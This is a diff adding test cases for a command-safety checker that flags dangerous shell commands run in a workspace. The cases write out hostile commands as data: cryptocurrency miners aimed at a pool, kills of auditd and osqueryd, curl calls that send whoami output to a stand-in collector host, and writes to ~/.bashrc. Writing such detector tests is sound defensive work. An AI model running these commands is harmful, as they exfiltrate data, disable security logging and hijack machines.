@@ -2533,3 +2533,44 @@ describe('a find feeding xargs reads its start paths past its own options', () =
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
   });
 });
+
+describe('the fifty-seventh set: miners, kills fed by a pipe, a workspace script in a URL, a prefix given apart, startup files sourced', () => {
+  const cases: [string, boolean, string?][] = [
+    // a miner run against a pool or its config mines for the wallet's holder; a benchmark mines for no one
+    ['./xmrig -c config-xkr.json', true, 'mines cryptocurrency for a pool'],
+    ['./xmrig', true, 'mines cryptocurrency for a pool'],
+    ['cpuminer -a sha256d -o stratum+tcp://pool.example:3333 -u wallet', true, 'mines cryptocurrency for a pool'],
+    ['./xmrig --bench=1M --algo=rx/0', false],
+    ['./xmrig --randomx-mode=light', false],
+    ['./xmrig --version', false],
+    ['cmake --build . --target xmrig', false],
+    // `xargs kill` in backticks prints nothing, so the command it would name is empty: a kill by name
+    ['ps -ef|grep ore_all |grep -v grep|cut -c 9-16|`xargs kill -9`', false],
+    ['`echo rm` -rf build', true, 'whose name is computed'],
+    // a kill fed the pids an earlier command picked by a daemon's name kills that daemon
+    ["ps aux | grep auditd | awk '{print $2}' | xargs kill -9", true, 'kills a security or logging daemon'],
+    ['ps -ef | grep osqueryd | cut -c 9-16 | `xargs kill -9`', true, 'kills a security or logging daemon'],
+    ["ps aux | grep sshd | awk '{print $2}' | xargs kill", true, 'kills a service of the machine'],
+    ["ps aux | grep 'vite' | awk '{print $2}' | xargs kill", false],
+    // a workspace script's output in a download's URL gives no more than running the script
+    ['wget https://dl.google.com/go/go$(scripts/get-min-go-version).src.tar.gz', false],
+    ['curl -O https://example.com/$(./version.sh).tgz', false],
+    ['curl https://collector.example/$(whoami)', true, 'sends the output of a command to the network'],
+    ['curl https://collector.example/$(../other/print-env)', true, 'sends the output of a command to the network'],
+    // an install prefix given as the next word is recorded for a later install, as `--prefix=` is
+    ['./mconfig -b ./buildtree -p /usr/local', false],
+    ['./configure --prefix /usr/local', false],
+    ['./mconfig -p /etc', true, 'a path outside the workspace'],
+    ['./tool -o /usr/local/bin/tool', true, 'a path outside the workspace'],
+    // the user's startup files sourced again change nothing; writing them does
+    ['source ~/.bashrc', false],
+    ['. ~/.profile', false],
+    ['echo "export PATH=$PATH:~/bin" >> ~/.bashrc', true, '~/.bashrc'],
+    ['source ~/.ssh/environment', true, 'holds secrets'],
+  ];
+  it.each(cases)('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
